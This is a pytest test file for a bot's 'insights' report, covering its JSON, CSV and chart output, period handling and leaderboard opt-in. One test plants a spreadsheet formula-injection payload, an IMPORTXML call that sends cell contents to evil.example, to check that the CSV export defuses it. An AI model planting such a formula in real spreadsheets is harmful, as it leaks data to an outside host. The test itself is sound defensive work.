"""`socialbot insights` on a database with a known history: text, JSON, CSV and the PNG."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from click.testing import CliRunner, Result
from PIL import Image
from sqlite_utils import Database

from bot.app import build_runtime
from bot.cli import main
from tests.conftest import SettingsFactory
from tests.insights.conftest import ZONE, fill, ts
from tests.test_cli import modules_after

WEEK = ["insights", "--since", "7d", "--until", "2026-11-30T08:00"]
WEEK_DAYS = ("2026-11-23", "2026-11-30")


@pytest.fixture
def socialbot(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, make_settings: SettingsFactory):
    runtime = build_runtime(make_settings(timezone=ZONE))
    fill(runtime.db)
    runtime.db.close()
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("SOCIALBOT_DB", str(tmp_path / "socialbot.db"))
    monkeypatch.setenv("SOCIALBOT_TIMEZONE", ZONE)

    def run(*args: str, input: str | None = None) -> Result:
        return CliRunner().invoke(main, list(args), input=input)

    return run


def test_json_is_one_line_with_every_figure(socialbot) -> None:
    result = socialbot(*WEEK, "--json")

    assert result.exit_code == 0, result.output
    (line,) = result.stdout.splitlines()
    figures = json.loads(line)
    assert figures["shares"] == {"linkedin": 3, "x": 1, "facebook": 1, "total": 5}
    assert figures["participation"]["reached"] == 4
    assert figures["participation"]["shared"] == 2
    assert [w["shared"] for w in figures["weekly"]] == [0, 0, 0, 0, 0, 0, 1, 2]
    assert figures["top_items"][0]["title"] == "Item one"
    assert figures["questions"]["gaps"] == ["Can I post about the merger?"]
    assert figures["reports"]["median_minutes_to_acknowledge"] == 20.0
    assert figures["leaderboard"] is None


def test_json_and_csv_days_are_those_of_the_period(socialbot) -> None:
    figures = json.loads(socialbot(*WEEK, "--json").stdout)
    rows = list(csv.reader(io.StringIO(socialbot(*WEEK, "--csv").stdout)))

    # 23 Nov 09:00 to 30 Nov 09:00 in Copenhagen: eight local days, not the chart's eight weeks.
    days = [day["day"] for day in figures["shares_per_day"]]
    assert (figures["start"], days[0], days[-1]) == ("2026-11-23T08:00:00+00:00", *WEEK_DAYS)
    assert len(days) == 8
    assert sum(day["total"] for day in figures["shares_per_day"]) == figures["shares"]["total"]
    csv_days = [row[1] for row in rows if row[0] == "shares_per_day"]
    assert len(csv_days) == 8 * 3  # a row per day and network
    assert (csv_days[0], csv_days[-1]) == WEEK_DAYS
    assert "2026-11-20" not in csv_days  # a share before the period


def test_the_title_names_the_dates_of_a_period_that_ended(socialbot) -> None:
    ended = socialbot("insights", "--until", "2026-01-01")
    recent = socialbot("insights", "--since", "7d")
    quiet = json.loads(socialbot("insights", "--until", "2026-01-01", "--json").stdout)

    assert ended.exit_code == 0, ended.output
    assert "Insights: 03 Dec 2025 to 01 Jan 2026 (30 days)" in ended.stdout
    assert "the last" not in ended.stdout
    assert "Insights: the last 7 days" in recent.stdout
    # review11a M6: no question asked is no rate, as the text's "-" says, not 0%
    assert quiet["questions"]["asked"] == 0 and quiet["questions"]["confident_rate"] is None


def test_a_date_is_its_whole_local_day_and_a_future_one_is_refused(socialbot) -> None:
    # review11a M18: "--until 2026-11-30" ended at 00:00 UTC on the 30th, leaving it out
    # while the title said "to 30 Nov"; a date to come gave a week of zeros.
    text = socialbot("insights", "--since", "7d", "--until", "2026-11-30")
    figures = json.loads(
        socialbot("insights", "--since", "7d", "--until", "2026-11-30", "--json").stdout
    )
    future = socialbot("insights", "--until", "2099-01-01")

    assert "Insights: 24 Nov 2026 to 30 Nov 2026 (7 days)" in text.stdout
    days = [day["day"] for day in figures["shares_per_day"]]
    assert (days[0], days[-1], len(days)) == ("2026-11-24", "2026-11-30", 7)
    assert figures["end"] == "2026-11-30T23:00:00+00:00"  # midnight in Copenhagen
    assert future.exit_code == 2
    assert "2099-01-01 is in the future: the figures end now at the latest" in future.output


def test_csv_is_one_table_of_figure_label_network_value(socialbot) -> None:
    result = socialbot(*WEEK, "--csv")

    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("\ufeff")  # for a spreadsheet opened by double-click
    rows = list(csv.reader(io.StringIO(result.stdout.removeprefix("\ufeff"))))
    assert rows[0] == ["figure", "label", "network", "value"]
    assert ["shares", "", "linkedin", "3"] in rows
    assert ["shares_per_day", "2026-11-28", "facebook", "1"] in rows
    assert ["participation_shared", "2026-11-23/2026-11-30", "", "2"] in rows
    assert ["top_item", "Item one", "x", "1"] in rows
    assert ["item_unshared", "Item three", "", "0"] in rows
    assert ["reports_open_now", "", "", "3"] in rows


def test_png_is_written_and_the_figures_are_shown(socialbot, tmp_path: Path) -> None:
    result = socialbot(*WEEK, "--png", str(tmp_path / "chart.png"))

    assert result.exit_code == 0, result.output
    assert "Shares: 5 (LinkedIn 3, X 1, Facebook 1)" in result.stdout
    assert "2 of 4 people who got a digest shared (50%)" in result.stdout
    # Not a terminal: whole lines, no figure broken over two.
    assert "(chart, 800x450 pixels: Shares per day from 2026-10-06 to 2026-11-30: 6" in (
        result.stdout
    )
    lines = result.stdout.splitlines()
    rate = r"(n/a|\d+%)"
    participation = (
        rf"Participation: .*; last weeks {rate}( → {rate}){{2}}; 1 digest not delivered .*"
    )
    assert any(re.fullmatch(participation, s) for s in lines)
    assert any(re.fullmatch(r"Guideline questions: .*, \d+ marked 👎", s) for s in lines)
    with Image.open(tmp_path / "chart.png") as image:
        assert (image.format, image.size) == ("PNG", (800, 450))
        image.load()  # decodes every pixel


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["--since", "5x"], "'5x' is not a period"),
        (["--since", "400d"], "'400d' is not a period from 1d to a year"),
        (["--csv", "--json"], "Choose one of --csv and --json"),
        (["--until", "yesterday"], "'yesterday' is no day (YYYY-MM-DD: 2026-11-30) nor moment"),
        (["--until", "2026-13-01"], "'2026-13-01' is no day (YYYY-MM-DD"),  # review11c R12
    ],
)
def test_bad_options_get_one_clear_line(socialbot, args: list[str], said: str) -> None:
    result = socialbot("insights", *args)

    assert result.exit_code == 2
    assert said in result.stderr
    assert result.stdout == ""


@pytest.mark.parametrize("command", [["insights"], ["checks", "stats"]])
def test_checks_stats_and_insights_read_the_same_periods(socialbot, command: list[str]) -> None:
    two_weeks = socialbot(*command, "--since", "2w", "--json")
    refused = socialbot(*command, "--since", "5x")

    assert two_weeks.exit_code == 0, two_weeks.output
    figures = json.loads(two_weeks.stdout)
    since = figures.get("since") or figures["start"]
    # The local, the UTC and the company's date (SOCIALBOT_TIMEZONE's: `checks stats` counts
    # its days there; past 23:00 UTC Copenhagen is a day ahead).
    today = {date.today(), datetime.now(UTC).date(), datetime.now(ZoneInfo(ZONE)).date()}
    assert since[:10] in {(day - timedelta(days=14)).isoformat() for day in today}
    assert refused.exit_code == 2
    assert "Invalid value for '--since': '5x' is not a period from 1d to a year" in refused.stderr


def test_matplotlib_is_imported_only_to_draw(tmp_path: Path) -> None:
    loaded = modules_after(tmp_path, "insights", "--help")

    assert "bot" in loaded
    assert "matplotlib" not in loaded
    assert "PIL" not in loaded


def test_on_the_console_managers_see_the_insights_and_others_do_not(socialbot) -> None:
    manager = socialbot("console", "--manager", input="/socialbot insights 90d\n")
    someone = socialbot("console", input="/socialbot insights\n")

    assert "Insights: the last 90 days" in manager.stdout
    assert "(chart, 800x450 pixels: Shares per day from" in manager.stdout
    assert "Only the social media managers see the insights." in someone.stdout
    assert "Insights: the last" not in someone.stdout


def test_the_leaderboard_names_only_who_joined_it(socialbot, monkeypatch, tmp_path: Path) -> None:
    with Database(tmp_path / "socialbot.db") as db, db.conn:
        db.table("share_clicks").insert(
            {
                "platform": "console",
                "user_id": "ann",
                "subject": "item:1",
                "network": "x",
                "at": datetime(2026, 11, 29, 12, tzinfo=UTC).timestamp(),
            }
        )

    def preferences(leaderboard: str) -> str:
        # On, the time, its zone, the days, the topics and the networks kept; the leaderboard.
        return "\n".join(["/socialbot preferences", "", "", "", "", "", "", leaderboard, ""])

    off = socialbot("console", "--user", "ann", input=preferences("1"))
    assert "Saved." in off.stdout and "Leaderboard" not in off.stdout  # it is off
    monkeypatch.setenv("SOCIALBOT_LEADERBOARD", "true")

    def leaders() -> object:
        return json.loads(socialbot(*WEEK, "--json").stdout)["leaderboard"]

    assert leaders() == []
    joined = socialbot("console", "--user", "ann", input=preferences("3\n1"))
    assert "Leaderboard" in joined.stdout and "top 10" in joined.stdout
    assert "! There is no choice 3" in joined.stdout and "Saved." in joined.stdout
    assert leaders() == [{"name": "ann", "clicks": 1}]
    socialbot("console", "--user", "ann", input=preferences(""))  # Enter keeps it
    assert leaders() == [{"name": "ann", "clicks": 1}]
    socialbot("console", "--user", "ann", input=preferences("2"))
    assert leaders() == []


def test_csv_never_hands_a_spreadsheet_a_formula(socialbot) -> None:
    # Any employee's question not covered, any feed's title, lands in a cell of the export.
    question = '=IMPORTXML(CONCAT("https://evil.example/?q=",A1),"//a")'
    with Database(Path("socialbot.db")) as db:
        db.execute(
            "UPDATE guideline_answers SET question = ? WHERE verdict = 'not_covered'", [question]
        )

    rows = list(csv.reader(io.StringIO(socialbot(*WEEK, "--csv").stdout)))

    assert ["question_not_covered", "'" + question, "", "1"] in rows
    assert ["shares", "", "linkedin", "3"] in rows  # figures stay figures


# Weeks nobody got a digest, long waits, uncounted Teams clicks (review9a I1, I2, I4).
def _database(tmp_path: Path) -> Database:
    return Database(tmp_path / "socialbot.db")


def test_weeks_nobody_got_a_digest_have_no_rate(socialbot) -> None:
    figures = json.loads(socialbot(*WEEK, "--json").stdout)
    rates = [week["rate"] for week in figures["weekly"]]
    assert rates == [None] * 5 + [0.0, 0.5, 0.5]
    text = socialbot(*WEEK).stdout
    # review16a W11: the weeks before the first digest are not shown ("n/a → n/a → …").
    assert "(50%); last weeks 0% → 50% → 50%" in text
    first = socialbot("insights", "--since", "7d", "--until", "2026-11-16T08:00").stdout
    assert "shared (0%), the first week with digests" in first


def test_a_long_wait_to_acknowledge_reads_in_days(socialbot, tmp_path: Path) -> None:
    db = _database(tmp_path)
    with db.conn:
        for report_id, day in ((5, 24), (6, 25), (7, 25)):
            db.execute(
                "INSERT INTO reports (id, platform, where_seen, urgency, status, created_at,"
                " updated_at, remind_at, card_queued) VALUES (?, 'slack', 'x', 'normal',"
                " 'acknowledged', ?, ?, ?, 1)",
                [report_id, ts(day, 9), ts(day, 9), ts(day, 9) + 365 * 86400],
            )
            db.execute(
                "INSERT INTO report_events (report_id, platform, user_id, kind, at)"
                " VALUES (?, 'slack', 'W111', 'acknowledged', ?)",
                [report_id, ts(day + 2, 9)],
            )
    db.close()
    assert (
        json.loads(socialbot(*WEEK, "--json").stdout)["reports"]["median_minutes_to_acknowledge"]
        == 2880.0
    )
    text = socialbot(*WEEK).stdout
    assert "median time to acknowledge 2 d," in text
    # review17a M5: the median counts the acknowledged only; R-3 waits since the 26th 09:00.
    assert "6 open now; 1 not acknowledged yet (the longest waiting 4 d)" in text


def test_people_on_teams_whose_clicks_are_not_counted_are_left_out(
    socialbot, tmp_path: Path, monkeypatch
) -> None:
    db = _database(tmp_path)
    with db.conn:
        for n, user in enumerate(("T1", "T2")):
            db.execute(
                "INSERT INTO deliveries (platform, recipient, purpose, key, payload, state,"
                " created_at, finished_at) VALUES ('teams', ?, 'digest', '2026-11-25', 'p',"
                " 'sent', ?, ?)",
                [user, ts(25, 8), ts(25, 8, n)],
            )
    db.close()
    assert json.loads(socialbot(*WEEK, "--json").stdout)["participation"]["reached"] == 6

    monkeypatch.setenv("MICROSOFT_APP_ID", "00000000-0000-0000-0000-000000000001")
    monkeypatch.setenv("MICROSOFT_APP_PASSWORD", "secret")
    figures = json.loads(socialbot(*WEEK, "--json").stdout)
    assert (figures["participation"]["reached"], figures["participation"]["shared"]) == (4, 2)
    assert figures["participation_leaves_out"] == ["teams"]
    text = socialbot(*WEEK).stdout
    assert "2 of 4 people who got a digest (not counting Teams" in text


def test_made_up_share_buttons_are_listed_as_they_came(socialbot, tmp_path: Path) -> None:
    # fix15b 6: a click's subject comes from a button a client may make up: its number is read
    # with the one row-id reader (content_feed.text.row_id), "²" and a number past SQLite's
    # integers included, never int() on what str.isdigit lets through.
    made_up = ["item:²", f"item:{'9' * 24}", "announcement:²", f"announcement:{'9' * 24}"]
    Database(tmp_path / "socialbot.db").table("share_clicks").insert_all(
        {"platform": "slack", "user_id": f"U{n}", "subject": s, "network": "x", "at": ts(29, 9)}
        for s in made_up
        for n in range(9)  # the week's top items
    )
    result = socialbot(*WEEK, "--json")
    assert result.exit_code == 0, result.output
    titles = {item["title"] for item in json.loads(result.stdout)["top_items"]}
    assert set(made_up) <= titles
